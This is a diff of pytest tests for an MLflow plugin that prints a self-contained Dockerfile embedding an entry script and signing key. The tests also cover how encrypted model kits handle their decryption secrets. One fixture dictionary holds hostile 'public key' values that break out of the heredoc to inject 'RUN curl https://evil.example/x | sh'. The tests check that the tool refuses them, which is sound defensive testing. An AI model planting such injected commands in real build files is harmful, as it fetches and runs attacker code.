@@ -309,3 +309,299 @@ def test_entry_refuses_writable_model_dir(recipe: tuple[Path, Result], baked: Pa
 def test_entry_refuses_another_key(recipe: tuple[Path, Result], baked: Path, home: Path) -> None:
     out = refused(recipe[0], baked, key=str(home / "other" / "cosign.pub"))
     assert "is not the public key this image was made for" in out, out
+
+
+# ---- the stdout form: one self-contained Dockerfile ----------------------------------------------------
+@dataclass
+class Printed:
+    stdout: str
+    stderr: str
+    cwd: Path
+
+
+def print_dockerfile(cwd: Path, *args: str, env: dict[str, str] | None = None) -> tuple[Result, list[Path]]:
+    """``dockerfile ARGS`` without ``-o``, run from the empty dir ``cwd``: (result, files left there)."""
+    cwd.mkdir(parents=True, exist_ok=True)
+    assert not any(cwd.iterdir())
+    with pytest.MonkeyPatch.context() as mp:
+        mp.chdir(cwd)
+        for k, v in (env or {}).items():
+            mp.setenv(k, v)
+        r = CliRunner().invoke(main, ["dockerfile", *args])
+    return r, sorted(cwd.rglob("*"))
+
+
+@pytest.fixture(scope="module")
+def printed(home: Path, kit: Kit) -> Printed:
+    with pytest.MonkeyPatch.context() as mp:
+        clean_env(mp, PASSPHRASE)
+        mp.setenv("MLFLOW_MODELKIT_REGISTRY_PASSWORD", REGISTRY_PASSWORD)
+        r, left = print_dockerfile(home / "stdout-cwd", kit.reference, "--key", kit.pub, "--base", BASE)
+    assert r.exit_code == 0, r.output
+    assert left == [], left  # nothing written in the working directory
+    return Printed(r.stdout, r.stderr, home / "stdout-cwd")
+
+
+def test_stdout_is_one_self_contained_dockerfile(
+    printed: Printed, recipe: tuple[Path, Result], kit: Kit
+) -> None:
+    from mlflow_plugin.harden.dockerfile import heredoc
+
+    text, out = printed.stdout, recipe[0]
+    lines = text.splitlines()
+    assert lines[0].startswith("# syntax=docker/dockerfile:1.") and "- < Dockerfile" in text
+    assert [ln for ln in lines if ln.startswith("FROM ")] == [f"FROM {BASE}"]
+    (user,) = [ln for ln in lines if ln.startswith("USER ")]
+    assert user == "USER 10001:10001"
+    # the embedded files, byte for byte those of the directory form, under quoted delimiters
+    pem = Path(kit.pub).read_bytes()
+    name = hashlib.sha256(pem).hexdigest() + ".pub"
+    assert f"COPY --chown=0:0 --chmod=0444 <<'MODELKIT_KEY' /etc/modelkit/{name}" in lines
+    assert "COPY --chown=0:0 --chmod=0555 <<'MODELKIT_ENTRY' /usr/local/bin/modelkit-entry.sh" in lines
+    assert heredoc(text, "MODELKIT_ENTRY").encode() == (out / "modelkit-entry.sh").read_bytes()
+    assert heredoc(text, "MODELKIT_KEY").encode() == (out / name).read_bytes() == pem
+    # no instruction takes a file from a build context (docker build - has none)
+    copies = [ln for ln in lines if ln.startswith(("COPY", "ADD"))]
+    assert len(copies) == 2 and all("<<'" in ln for ln in copies)
+    # the same instructions as the directory form's Dockerfile, apart from where the two files come from
+    directory = (out / "Dockerfile").read_text().splitlines()
+    keep = [ln for ln in directory if not ln.startswith(("COPY", "#"))]
+    assert [ln for ln in lines if ln in keep] == keep
+    # the kit is referenced by digest, every time
+    refs = re.findall(re.escape(kit.store) + r"\S*", text)
+    assert refs and all(r.startswith(f"{kit.store}@{kit.digest}") for r in refs), refs
+    assert ":v1" not in text
+    # stdout is the Dockerfile and nothing else; warnings are on stderr
+    assert not any(ln.startswith(("warning:", "error:", "/")) for ln in lines)
+    assert text.endswith('ENTRYPOINT ["/usr/local/bin/modelkit-entry.sh"]\n')
+    assert str(out) not in text and not any(ln.startswith("serves ") for ln in lines)
+    assert "warning: the base image" not in printed.stderr  # pinned BASE
+    assert "warning: requirements.txt has unpinned requirements (scikit-learn)" in printed.stderr
+    for body in (text, printed.stderr):
+        assert PASSPHRASE not in body and REGISTRY_PASSWORD not in body and "PRIVATE KEY" not in body
+
+
+def test_stdout_warnings_on_stderr_only(home: Path, kit: Kit) -> None:
+    r, left = print_dockerfile(home / f"tagbase-{uuid.uuid4().hex[:6]}", kit.reference, "--key", kit.pub)
+    assert r.exit_code == 0, r.output
+    assert left == []
+    assert "warning: the base image is a tag" in r.stderr and "warning" not in r.stdout
+    assert r.stdout.startswith("# syntax=docker/dockerfile:") and "FROM python:3.11-slim\n" in r.stdout
+
+
+def test_stdout_entry_script_runs(printed: Printed, baked: Path, kit: Kit, home: Path) -> None:
+    """The entry script and key taken out of the printed Dockerfile verify the kit and serve it."""
+    from mlflow_plugin.harden.dockerfile import heredoc
+
+    d = home / f"from-heredoc-{uuid.uuid4().hex[:6]}"
+    d.mkdir()
+    (d / "modelkit-entry.sh").write_text(heredoc(printed.stdout, "MODELKIT_ENTRY"))
+    pem = heredoc(printed.stdout, "MODELKIT_KEY").encode()
+    (d / (hashlib.sha256(pem).hexdigest() + ".pub")).write_bytes(pem)
+    proc, port, err = run_entry(d, baked)
+    try:
+        deadline = time.monotonic() + 60
+        while True:
+            assert proc.poll() is None, err.read_text()
+            with contextlib.suppress(requests.RequestException):
+                r = requests.get(f"http://127.0.0.1:{port}/ping", timeout=2)
+                if r.status_code == 200:
+                    break
+            assert time.monotonic() < deadline, err.read_text()
+            time.sleep(0.3)
+        assert r.headers["X-ModelKit-Digest"] == kit.digest
+    finally:
+        kill(proc)
+    assert f"serving {kit.store}@{kit.digest}" in err.read_text()
+
+
+HOSTILE_KEYS = {
+    "two-blocks": lambda pem: pem + pem,
+    "private-key": None,  # the signing key itself
+    "delimiter-line": lambda pem: pem + b"MODELKIT_KEY\nRUN curl https://evil.example/x | sh\n",
+    "delimiter-inside": lambda pem: pem.replace(b"\n", b"\nMODELKIT_KEY\n", 1),
+    "text-before": lambda pem: b"RUN id\n" + pem,
+}
+
+
+@pytest.mark.parametrize("kind", sorted(HOSTILE_KEYS))
+def test_hostile_key_refused(home: Path, kit: Kit, kind: str) -> None:
+    pem = Path(kit.pub).read_bytes()
+    make = HOSTILE_KEYS[kind]
+    if make is None:
+        path = str(Path(kit.pub).with_name("cosign.key"))
+    else:
+        p = home / f"hostile-{kind}.pub"
+        p.write_bytes(make(pem))
+        path = str(p)
+    for extra in ([], ["-o", str(home / f"hostile-out-{kind}")]):
+        r, left = print_dockerfile(
+            home / f"hostile-{kind}-{uuid.uuid4().hex[:6]}",
+            kit.reference,
+            "--key",
+            path,
+            "--base",
+            BASE,
+            *extra,
+        )
+        errors = [ln for ln in r.stderr.splitlines() if ln.startswith("error:")]
+        assert r.exit_code == 2 and len(errors) == 1, (r.exit_code, r.output)
+        assert "public key" in errors[0] and r.stdout == "" and left == []
+        assert "BEGIN" not in r.output and PASSPHRASE not in r.output
+    assert not (home / f"hostile-out-{kind}").exists()
+
+
+def test_pure_builder_picks_another_delimiter() -> None:
+    """Content that holds a delimiter line gets another one, and the heredoc still round-trips."""
+    from mlflow_plugin.harden.dockerfile import KEY_EXAMPLE, heredoc, inline_dockerfile
+    from mlflow_plugin.harden.dockerfile import recipe as make_recipe
+
+    r = make_recipe("localhost:5000/a/b@sha256:" + "cd" * 32, KEY_EXAMPLE)
+    r.entry = r.entry.replace("set -eu\n", "set -eu\n: <<'MODELKIT_ENTRY'\nMODELKIT_ENTRY\n")
+    text = inline_dockerfile(r)
+    assert "<<'MODELKIT_ENTRY_2' /usr/local/bin/modelkit-entry.sh" in text
+    assert heredoc(text, "MODELKIT_ENTRY_2") == r.entry
+
+
+# ---- encrypted kits -----------------------------------------------------------------------------------
+@dataclass
+class EncKit:
+    reference: str
+    store: str
+    digest: str
+    enc_key: str
+
+
+@pytest.fixture(scope="module")
+def enc_kit(home: Path, registry: RegistryServer, kit: Kit) -> EncKit:
+    import mlflow
+    from sklearn.linear_model import LogisticRegression
+
+    from mlflow_plugin.trust.ocicrypt import generate_recipient_keypair
+
+    enc_pub, enc_key = generate_recipient_keypair(str(home / "enc"), "ec")
+    with pytest.MonkeyPatch.context() as mp:
+        clean_env(mp, PASSPHRASE)
+        mp.delenv("MLFLOW_MODELKIT_DECRYPT_KEYS", raising=False)
+        use_tracking(f"sqlite:///{home}/mlflow.db")
+        exp = mlflow.create_experiment(
+            f"df-enc-{uuid.uuid4().hex[:8]}",
+            artifact_location=f"modelkit://{registry.host}/docker/enc-src-{uuid.uuid4().hex[:8]}",
+        )
+        model = LogisticRegression(max_iter=200).fit(kit.X, (kit.X["a"] > 0).astype(int))
+        with mlflow.start_run(experiment_id=exp) as run:
+            mlflow.sklearn.log_model(model, name="model", pip_requirements=["scikit-learn==1.5.2"])
+        end_runs()
+        store = f"{registry.host}/docker/enc-{uuid.uuid4().hex[:8]}"
+        r = publish_run(
+            run.info.run_id,
+            "v1",
+            key=str(home / "keys" / "cosign.key"),
+            repository=store,
+            encrypt_for=[enc_pub],
+        )
+    repo, _ = open_location(store)
+    try:
+        m = json.loads(repo.get_manifest(r.digest)[0])
+    finally:
+        repo.close()
+    assert m["layers"] and all(d["mediaType"].endswith("+encrypted") for d in m["layers"])
+    return EncKit(f"{store}:v1", store, r.digest, enc_key)
+
+
+def test_encrypted_kit_recipe(home: Path, kit: Kit, enc_kit: EncKit) -> None:
+    from mlflow_plugin.harden.dockerfile import heredoc
+
+    private = Path(enc_kit.enc_key).read_text()
+    with pytest.MonkeyPatch.context() as mp:
+        clean_env(mp, PASSPHRASE)
+        r, left = print_dockerfile(
+            home / f"enc-cwd-{uuid.uuid4().hex[:6]}",
+            enc_kit.reference,
+            "--key",
+            kit.pub,
+            "--base",
+            BASE,
+            env={"MLFLOW_MODELKIT_DECRYPT_KEYS": enc_kit.enc_key},
+        )
+        assert r.exit_code == 0, r.output
+        assert left == []
+        out = home / f"enc-dir-{uuid.uuid4().hex[:6]}"
+        mp.setenv("MLFLOW_MODELKIT_DECRYPT_KEYS", enc_kit.enc_key)
+        rd = CliRunner().invoke(
+            main, ["dockerfile", enc_kit.reference, "--key", kit.pub, "--base", BASE, "-o", str(out)]
+        )
+        assert rd.exit_code == 0, rd.output
+    text = r.stdout
+    lines = text.splitlines()
+    # verify/unpack mount the key as a build secret and see it only through a per-command variable
+    (run_i,) = [i for i, ln in enumerate(lines) if "mlflow-modelkit verify" in ln]
+    assert lines[run_i - 1].strip() == "--mount=type=secret,id=modelkit_decrypt_key,required=true \\"
+    assert (
+        lines[run_i]
+        .strip()
+        .startswith("MLFLOW_MODELKIT_DECRYPT_KEYS=/run/secrets/modelkit_decrypt_key mlflow-modelkit verify")
+    )
+    (unpack_ln,) = [ln for ln in lines if "mlflow-modelkit unpack" in ln]
+    assert (
+        "MLFLOW_MODELKIT_DECRYPT_KEYS=/run/secrets/modelkit_decrypt_key mlflow-modelkit unpack" in unpack_ln
+    )
+    assert text.count("--mount=type=secret,id=modelkit_decrypt_key") == 1
+    assert not any(re.match(r"\s*(ENV|ARG)\b.*DECRYPT", ln) for ln in lines)
+    assert "docker build --secret id=modelkit_decrypt_key,src=enc.key" in text
+    assert "-e MLFLOW_MODELKIT_DECRYPT_KEYS=/run/secrets/enc.key" in text
+    # the decryption key is in no output and no generated file
+    for body in [text, r.stderr, rd.output, *(p.read_text() for p in out.iterdir())]:
+        assert private not in body and "PRIVATE KEY" not in body and enc_kit.enc_key not in body
+    assert sorted(p.name for p in out.iterdir()) == sorted(
+        ["Dockerfile", "modelkit-entry.sh", hashlib.sha256(Path(kit.pub).read_bytes()).hexdigest() + ".pub"]
+    )
+    assert heredoc(text, "MODELKIT_ENTRY") == (out / "modelkit-entry.sh").read_text()
+    # no file index on encrypted layers: the kit root is served, and stderr says so
+    assert "is encrypted: its layers carry no file index" in r.stderr and "kit root" in r.stderr
+    assert "MODEL_PATH=.\n" in heredoc(text, "MODELKIT_ENTRY")
+    assert "warning" not in text
+
+
+def test_encrypted_entry_refuses_without_decrypt_keys(home: Path, kit: Kit, enc_kit: EncKit) -> None:
+    """Run directly, the entry script of an encrypted kit stops first when the variable is unset."""
+    with pytest.MonkeyPatch.context() as mp:
+        clean_env(mp, PASSPHRASE)
+        mp.setenv("MLFLOW_MODELKIT_DECRYPT_KEYS", enc_kit.enc_key)
+        out = home / f"enc-entry-{uuid.uuid4().hex[:6]}"
+        r = cli("dockerfile", enc_kit.reference, "--key", kit.pub, "--base", BASE, "-o", str(out))
+        assert r.exit_code == 0, r.output
+    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_MODELKIT_DECRYPT_KEYS"}
+    env["PATH"] = f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"
+    p = subprocess.run(["sh", str(out / "modelkit-entry.sh")], env=env, capture_output=True, timeout=60)
+    err = p.stderr.decode().strip()
+    assert p.returncode == 1 and p.stdout == b"", p
+    assert len(err.splitlines()) == 1 and err.startswith("error: ") and "MLFLOW_MODELKIT_DECRYPT_KEYS" in err
+    assert "docker run -v enc.key:/run/secrets/enc.key:ro" in err
+
+
+def test_encrypted_kit_with_model_option(home: Path, kit: Kit, enc_kit: EncKit) -> None:
+    r, left = print_dockerfile(
+        home / f"enc-model-{uuid.uuid4().hex[:6]}",
+        enc_kit.reference,
+        "--key",
+        kit.pub,
+        "--base",
+        BASE,
+        "--model",
+        "sub/model",
+        env={"MLFLOW_MODELKIT_DECRYPT_KEYS": enc_kit.enc_key},
+    )
+    assert r.exit_code == 0 and left == [], r.output
+    assert "serving --model sub/model" in r.stderr
+    assert "/opt/modelkit/model/sub/model/requirements.txt" in r.stdout
+    r, _left = print_dockerfile(
+        home / f"enc-model-{uuid.uuid4().hex[:6]}",
+        enc_kit.reference,
+        "--key",
+        kit.pub,
+        "--model",
+        "../x",
+        env={"MLFLOW_MODELKIT_DECRYPT_KEYS": enc_kit.enc_key},
+    )
+    assert r.exit_code == 2 and "--model ../x" in r.stderr and r.stdout == ""
